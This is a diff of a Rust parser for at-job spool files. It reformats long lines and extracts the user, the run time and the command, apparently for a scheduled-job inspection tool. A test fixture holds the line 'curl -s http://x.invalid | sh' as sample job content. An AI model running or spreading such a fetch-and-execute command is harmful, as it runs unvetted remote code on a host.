@@ -37,18 +37,34 @@ pub fn parse_at_name(name: &str) -> Option<AtName> {
 
 /// An at job from its spool file: schedule and queue from the name, user from
 /// `# atrun uid=` (resolved by `user_of`), the command part of the script.
-pub fn parse_at_job(name: &AtName, bytes: &[u8], user_of: &dyn Fn(u32) -> Option<String>) -> CronJob {
+pub fn parse_at_job(
+    name: &AtName,
+    bytes: &[u8],
+    user_of: &dyn Fn(u32) -> Option<String>,
+) -> CronJob {
     let all = lines(bytes);
     let uid = all.iter().find_map(|(_, l)| {
         let rest = l.strip_prefix("# atrun uid=")?;
         rest.split_whitespace().next()?.parse::<u32>().ok()
     });
     // Modern at: `${SHELL:-/bin/sh} << 'marcinDELIMITER…'` … delimiter line.
-    let heredoc = all.iter().position(|(_, l)| l.contains("<< '") && l.starts_with("${SHELL"));
+    let heredoc = all
+        .iter()
+        .position(|(_, l)| l.contains("<< '") && l.starts_with("${SHELL"));
     let command: Vec<&str> = match heredoc {
         Some(i) => {
-            let delim = all[i].1.rsplit("<< '").next().unwrap_or("").trim_end_matches('\'').to_string();
-            all[i + 1..].iter().map(|(_, l)| l.as_str()).take_while(|l| *l != delim).collect()
+            let delim = all[i]
+                .1
+                .rsplit("<< '")
+                .next()
+                .unwrap_or("")
+                .trim_end_matches('\'')
+                .to_string();
+            all[i + 1..]
+                .iter()
+                .map(|(_, l)| l.as_str())
+                .take_while(|l| *l != delim)
+                .collect()
         }
         None => {
             // Older at: the command follows the `cd … || { … }` block.
@@ -56,13 +72,27 @@ pub fn parse_at_job(name: &AtName, bytes: &[u8], user_of: &dyn Fn(u32) -> Option
                 .iter()
                 .rposition(|(_, l)| l.starts_with("cd ") || l == "}")
                 .map_or(0, |i| i + 1);
-            all[start..].iter().map(|(_, l)| l.as_str()).filter(|l| !l.trim().is_empty()).collect()
+            all[start..]
+                .iter()
+                .map(|(_, l)| l.as_str())
+                .filter(|l| !l.trim().is_empty())
+                .collect()
         }
     };
     let secs = i64::try_from(name.run_minutes.saturating_mul(60)).unwrap_or(i64::MAX);
     let run_at = Timestamp::from_unix(secs, 0).to_string();
-    let mut j = CronJob::new(CronKind::At, run_at.clone(), uid.and_then(user_of), command.join("\n"));
-    j.at = Some(AtJob { queue: name.queue, job_number: name.job_number, run_at, uid });
+    let mut j = CronJob::new(
+        CronKind::At,
+        run_at.clone(),
+        uid.and_then(user_of),
+        command.join("\n"),
+    );
+    j.at = Some(AtJob {
+        queue: name.queue,
+        job_number: name.job_number,
+        run_at,
+        uid,
+    });
     j
 }
 
@@ -74,7 +104,9 @@ mod tests {
     fn modern_at_script() {
         let script = b"#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\nHOME=/home/alice; export HOME\ncd /home/alice || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER5c0f7e1a'\ncurl -s http://x.invalid | sh\necho done\nmarcinDELIMITER5c0f7e1a\n";
         let name = parse_at_name("a0000201b2e0c0").unwrap();
-        let j = parse_at_job(&name, script, &|uid| (uid == 1000).then(|| "alice".to_string()));
+        let j = parse_at_job(&name, script, &|uid| {
+            (uid == 1000).then(|| "alice".to_string())
+        });
         assert_eq!(j.command, "curl -s http://x.invalid | sh\necho done");
         assert_eq!(j.user.as_deref(), Some("alice"));
         let at = j.at.unwrap();
